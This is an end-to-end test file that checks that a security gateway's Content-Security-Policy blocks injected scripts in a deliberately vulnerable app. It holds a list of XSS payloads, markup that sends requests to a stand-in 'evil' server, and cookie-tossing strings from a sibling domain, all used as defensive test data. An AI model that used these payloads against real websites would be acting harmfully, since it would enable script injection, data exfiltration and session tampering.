import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import type { Page } from 'playwright-core';
import { type Browser, noBrowser, openBrowser } from '../harness/browser.ts';
import { eventually } from '../harness/eventually.ts';
import { type GatehouseProcess, startGatehouse } from '../harness/gatehouse-process.ts';
import { signIn } from '../harness/sign-in.ts';
import { openVulnerableApp, type VulnerableApp } from '../harness/vulnerable-app.ts';

suite('scripts injected into an app that believes everything', { skip: noBrowser }, () => {
  let app: VulnerableApp;
  let gatehouse: GatehouseProcess;
  let browser: Browser;
  let server: Server;
  let evil = '';
  let folder = '';
  const taken: string[] = [];
  let page: Page;

  before(async () => {
    app = await openVulnerableApp();
    folder = mkdtempSync(join(tmpdir(), 'gatehouse-injection-'));
    const config = join(folder, 'gatehouse.yaml');
    writeFileSync(
      config,
      `apps: { app: { upstream: "${app.url}", csp: { mode: block, pages: [/] }, rules: [{ allow: [admin] }, { forbid: [everyone], paths: [/secret] }] } }\n`,
    );
    gatehouse = await startGatehouse({
      mode: { serve: app.url },
      config,
      names: 'siblings',
      people: [{ name: 'ada', roles: 'admin' }],
    });
    browser = await openBrowser(gatehouse.authorityFile);
    server = createServer((req, res) => {
      taken.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      res.end('window.pwned = "foreign"');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    evil = `http://localhost:${(server.address() as AddressInfo).port}`;
    page = await browser.context.newPage();
    await page.goto(gatehouse.appUrl);
    await signIn(page, 'ada');
  });
  after(async () => {
    await browser?.close();
    await gatehouse?.close();
    await app?.close();
    server?.close();
    server?.closeAllConnections();
    rmSync(folder, { recursive: true, force: true });
  });

  const pwned = (): Promise<unknown> => page.evaluate('window.pwned');
  const inject = (html: string) => page.goto(`${gatehouse.appUrl}/?q=${encodeURIComponent(html)}`);

  test("the app's own shell runs: its file, and the script in its page by the hash of its start", async () => {
    await page.goto(gatehouse.appUrl);
    assert.equal(await page.evaluate('window.shell'), 'ran');
    assert.equal(await page.evaluate('window.own'), 'ran');
  });

  test('nothing that is injected runs', async () => {
    for (const html of [
      '<script>window.pwned = 1</script>',
      '<script nonce="">window.pwned = 1</script>',
      '<ScRiPt type="module">window.pwned = 1</ScRiPt>',
      '<img src=x onerror="window.pwned = 1">',
      '<svg onload="window.pwned = 1"></svg>',
      '<details open ontoggle="window.pwned = 1">x</details>',
      '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
      '<iframe src="javascript:parent.pwned = 1"></iframe>',
      '<script src="data:text/javascript,window.pwned = 1"></script>',
      `<script src="${evil}/x.js"></script>`,
      `<base href="${evil}/"><script src="own.js"></script>`,
      '<object data="data:text/html,<script>parent.pwned = 1</script>"></object>',
      '<embed src="data:image/svg+xml,<svg onload=\'parent.pwned = 1\'/>">',
      '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><script>window.pwned = 1</script>',
      // What was hashed is the shell as a whole: a part of it, or more than it, is not.
      "<script>window.shell = 'ran';window.pwned = 1</script>",
    ]) {
      await inject(html);
      await page.waitForTimeout(150);
      assert.equal(await pwned(), undefined, html);
    }
    await inject('<a id="x" href="javascript:window.pwned = 1">x</a>');
    await page.locator('#x').click();
    await page.waitForTimeout(150);
    assert.equal(await pwned(), undefined, 'a javascript: link');
    for (const path of ['/upload.svg', '/confused']) {
      await page.goto(`${gatehouse.appUrl}${path}`);
      assert.equal(await pwned(), undefined, path);
    }
  });

  test('what injected markup would send elsewhere does not arrive there', async () => {
    taken.length = 0;
    for (const html of [
      `<img src="${evil}/image">`,
      `<link rel="stylesheet" href="${evil}/style">`,
      `<iframe src="${evil}/frame"></iframe>`,
      `<video src="${evil}/video"></video>`,
      `<style>p { background: url(${evil}/css) }</style>`,
      `<form id="f" action="${evil}/form" method="post"><input name="a" value="1"></form>`,
    ]) {
      await inject(html);
      const form = page.locator('#f');
      if ((await form.count()) > 0)
        await form.evaluate('document.querySelector("#f").submit()').catch(() => {});
      await page.waitForTimeout(150);
    }
    assert.deepEqual(taken, []);
  });

  test('a policy on a page is the one that the gate sends, beside others', async () => {
    const answer = await page.goto(gatehouse.appUrl);
    const policy = (await answer?.allHeaders())?.['content-security-policy'] ?? '';
    assert.match(policy, /script-src 'self' 'report-sample' 'sha256-/);
    assert.doesNotMatch(policy, /unsafe|\*/);
  });

  test('a sibling name cannot toss a cookie that the gate or the app takes for its own', async () => {
    const tab = await browser.context.newPage();
    await tab.goto(evil.replace('localhost', 'evil.example.test'));
    await tab.evaluate(`for (const value of [
      '__Host-gatehouse=tossed; Domain=example.test; Path=/',
      '__Host-gatehouse-pending=tossed; Domain=example.test; Path=/',
      '__host-gatehouse=tossed; Domain=example.test; Path=/',
      '__Secure-x=tossed; Domain=example.test; Path=/',
    ]) document.cookie = value;`);
    await tab.close();
    await page.goto(gatehouse.appUrl);
    assert.ok(page.url().startsWith(gatehouse.appUrl), page.url());
    const names = (await browser.context.cookies(gatehouse.appUrl)).filter(({ value }) => value === 'tossed');
    assert.deepEqual(names, []);
  });

  test('administrators see what the rules say, what was refused, and what browsers told; nothing changes by itself', async () => {
    await inject('<img src="https://tiles.example.com/1.png"><script>x()</script>');
    await page.goto(`${gatehouse.appUrl}/secret`);
    await page.goto(
      `${gatehouse.portalUrl}/rules/app?person=ada&method=GET&url=%2Fsecret&assurance=password`,
    );
    if (page.url().includes('/sign-in')) await signIn(page, 'ada');
    const verdict = page.getByRole('region', { name: 'refused' });
    await verdict.getByText('forbid everyone').first().waitFor();
    await verdict.getByText(/narrowing what forbids/).waitFor();

    await page.getByLabel('Person').fill('nobody-here');
    await page.getByRole('button', { name: 'Explain' }).click();
    await page.getByText('Nobody has the account name nobody-here').waitFor();

    await eventually(async () => {
      await page.goto(`${gatehouse.portalUrl}/guards/app`);
      return (await page.getByText('img-src https://tiles.example.com').count()) > 0;
    }, 10_000);
    await page
      .getByRole('row', { name: /^access/ })
      .getByText('1 refused')
      .waitFor();
    await page.getByText('a script stands in /').waitFor();
    await page.getByRole('checkbox', { name: /tiles\.example\.com/ }).check();
    await page.getByRole('button', { name: 'Make the lines' }).click();
    await page.getByText('- "https://tiles.example.com"').waitFor();
  });
});
